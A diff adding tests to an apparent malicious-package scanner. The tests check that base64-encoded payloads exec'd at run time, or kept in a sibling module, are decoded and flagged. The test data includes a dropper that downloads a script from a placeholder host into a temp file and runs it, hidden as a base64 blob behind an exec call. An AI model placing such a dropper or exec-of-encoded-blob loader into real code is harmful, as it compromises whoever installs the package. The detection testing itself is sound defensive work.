@@ -44,6 +44,50 @@ def test_a_literal_payload_is_decoded_and_read_like_any_other_code() -> None:
     assert any(f.evidence and f.evidence.startswith("decoded line 2:") for f in inside)
 
 
+DROPPER = (
+    "import os, subprocess, tempfile, urllib.request\n"
+    "p = os.path.join(tempfile.gettempdir(), 'u.py')\n"
+    "open(p, 'wb').write(urllib.request.urlopen('http://x.invalid/s').read())\n"
+    "subprocess.Popen(['python', p])\n"
+)
+CLIENT = "class Client:\n    def connect(self):\n        exec(base64.b64decode(BLOB))\n"
+
+
+def test_a_payload_run_only_when_a_method_is_called_is_decoded_too() -> None:
+    """Run-time code weighs less than import-time code, but a dropper decoded out of a literal
+    is read for what it is wherever the exec sits."""
+    blob = base64.b64encode(DROPPER.encode()).decode()
+    findings = run(ALL_RULES, py(f"import base64\nBLOB = {blob!r}\n{CLIENT}", path="acme/__init__.py"))
+    outer = next(f for f in findings if f.rule == "PV-EXE-001")
+    assert (outer.severity, outer.stage) == (Severity.HIGH, Stage.RUNTIME)
+    assert "read the file with it in place" in outer.message
+    assert any(f.rule == "PV-DL-002" and f.severity is Severity.CRITICAL and f.line == 5 for f in findings)
+
+
+def test_a_payload_kept_in_a_sibling_module_is_decoded_where_it_runs() -> None:
+    """``from ._consts import BLOB`` then ``exec(b64decode(BLOB))``: the literal is read from
+    the sibling's source (never imported); the payload is no caller's data."""
+    blob = base64.b64encode(DROPPER.encode()).decode()
+    consts = f"BLOB = {blob!r}\nTIMEOUT = 30\n"
+    init = f"import base64\nfrom ._consts import BLOB, TIMEOUT\n{CLIENT}"
+    for importer, sources in [
+        ("demo-1.0/acme/__init__.py", {"demo-1.0/acme/_consts.py": consts}),
+        ("acme/sub/run.py", {"acme/_consts.py": consts, "acme/sub/__init__.py": ""}),
+    ]:
+        text = init.replace("from ._consts", "from .._consts") if "/sub/" in importer else init
+        pkg = PackageContext(filename="demo.tar.gz", prefix="demo-1.0/", sources=tuple(sources.items()))
+        findings = run(ALL_RULES, py(text, path=importer), pkg)
+        outer = next(f for f in findings if f.rule == "PV-EXE-001")
+        assert outer.severity is Severity.HIGH, outer.message
+        assert "comes from the caller" not in outer.message
+        assert any(f.rule == "PV-DL-002" for f in findings), importer
+    # a name the sibling binds twice, or to something not text, is not guessed at
+    for other in (f"BLOB = {blob!r}\nBLOB = BLOB.strip()\n", "BLOB = os.environ['B']\n"):
+        pkg = PackageContext(filename="demo.tar.gz", sources=(("acme/_consts.py", other),))
+        findings = run(ALL_RULES, py(init, path="acme/__init__.py"), pkg)
+        assert not any(f.rule == "PV-DL-002" for f in findings)
+
+
 def test_a_decoded_payload_with_nothing_risky_is_high_not_critical() -> None:
     """versioneer ships its own source as one base64 blob that it execs: hidden, so still high
     (suspicious), but no longer alone enough for malicious."""
